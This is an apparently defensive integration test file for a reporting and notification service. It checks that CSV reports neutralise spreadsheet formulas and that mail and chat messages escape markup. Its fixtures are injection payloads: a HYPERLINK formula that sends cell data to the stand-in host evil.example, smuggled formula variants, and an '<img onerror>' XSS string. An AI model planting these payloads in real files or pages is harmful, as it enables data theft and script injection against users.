import { checkoutOf, line, SHIPPING, Shopper } from '../integration/checkout/purchase.js';
import { addMachine } from '../integration/locations/machines.js';
import {
  channelOf,
  deliveriesOf,
  NOTIFYING,
} from '../integration/notifications/notification-calls.js';
import { issue } from '../integration/principals/principal-calls.js';
import {
  soldAt,
  startReportsService,
  storeRecords,
} from '../integration/reports/stored-records.js';
import { startChatReceiver } from '../support/receivers/chat-receiver.js';
import { startMailReceiver } from '../support/receivers/mail-receiver.js';
import { startTestService, useScheduledJobs } from '../support/service.js';
import { until } from '../support/until.js';
import { useStarted } from '../support/use-started.js';
import { ScriptedVendor, product } from '../support/vendor/index.js';

useScheduledJobs('notifications');

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Total")';

describe('reports as CSV', () => {
  const service = useStarted(() => startReportsService());

  it.each(['sales', 'profit'])(
    'hold no formula, whatever machines are called (%s)',
    async (kind) => {
      const names = [FORMULA, `Lobby;${FORMULA}`, `Lobby\t${FORMULA}`, '@SUM(1)', '-2+3'];
      for (const [index, name] of names.entries()) {
        const id = `${kind}-${index}`;
        await addMachine(service, { id, name });
        await storeRecords(service, [
          soldAt('2026-06-01T12:00:00+02:00', `S-${id}`, { locationId: id }),
        ]);
      }
      const query = 'by=location&format=csv&from=2026-06-01&to=2026-06-02';
      const { text, status } = await service.call('GET', `/ucp/v1/reports/${kind}?${query}`);
      expect(status).toBe(200);
      for (const name of ['HYPERLINK', '@SUM(1)', '-2+3']) expect(text).toContain(name);
      // However a spreadsheet splits the text, no piece begins like a formula.
      const pieces = text.split(/[,;\t\r\n]/).map((piece) => piece.replace(/^[\s"]+/, ''));
      expect(pieces.filter((piece) => /^[=+@]|^-\D|^-\d+\+/.test(piece))).toEqual([]);
    },
  );
});

const MARKUP = '<img src=x onerror=alert(1)> <!channel> [pay](https://evil.example) @all';

describe('a message to people', () => {
  const mail = useStarted(startMailReceiver);
  const chat = useStarted(startChatReceiver);
  const vendor = useStarted(() =>
    ScriptedVendor.start({ catalog: { products: [product('tea', 100, { title: MARKUP })] } }),
  );
  const service = useStarted(() =>
    startTestService({
      ...NOTIFYING,
      SMTP_URL: mail.url,
      MAIL_FROM: 'Routekeeper <route@example.com>',
      VENDORS: JSON.stringify([vendor.entry('evil-supply')]),
      RULES: JSON.stringify({ spendingLimitPerRun: 0, spendingLimitPerDay: null }),
    }),
  );

  it('shows the names of products and callers as text only', async () => {
    const owner = { call: service.call.bind(service) };
    await channelOf(owner, { type: 'mail', address: 'owner@example.com' });
    const formats = ['json', 'slack', 'feishu', 'wecom', 'dingtalk'];
    for (const format of formats) {
      await channelOf(owner, { type: 'chat', format, url: chat.url(format) });
    }
    const agent = await issue(service, { name: MARKUP, role: 'agent' });
    const shopper = new Shopper({ service: { ...service, call: agent.call } });
    const answer = await shopper.create({
      line_items: [line({ id: 'evil-supply:tea' }, 1)],
      fulfillment: SHIPPING,
    });
    expect(checkoutOf(answer).status).toBe('requires_escalation');
    await until(async () => {
      const found = await deliveriesOf(owner);
      return found.length > formats.length && found.every(({ status }) => status === 'delivered');
    });

    const [letter] = mail.mails;
    expect(letter?.html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(letter?.html).not.toContain('<img');
    expect(Object.keys(letter?.headers ?? {})).not.toContain('bcc');

    const posted = (format: string) =>
      chat.posts.find(({ path }) => path.includes(`/${format}/`))?.body ?? {};
    // Slack reads markup in this member, and plain text in all others.
    expect(String(posted('slack').text)).not.toMatch(/<[!a-z]/);
    const blocks = JSON.stringify(posted('slack').blocks);
    expect(blocks).toContain('onerror');
    expect(blocks).not.toContain('mrkdwn');
    expect(JSON.stringify(posted('feishu'))).toContain('onerror');
    expect(JSON.stringify(posted('feishu'))).not.toContain('lark_md');
    // DingTalk reads Markdown.
    const { actionCard } = posted('dingtalk') as { actionCard?: { text: string } };
    expect(actionCard?.text).toContain('onerror');
    expect(actionCard?.text).not.toMatch(/[<>[\]@]/);
    expect(JSON.stringify(posted('wecom'))).toContain('onerror');
    expect(JSON.stringify(posted('wecom'))).toContain('"msgtype":"template_card"');
  });
});
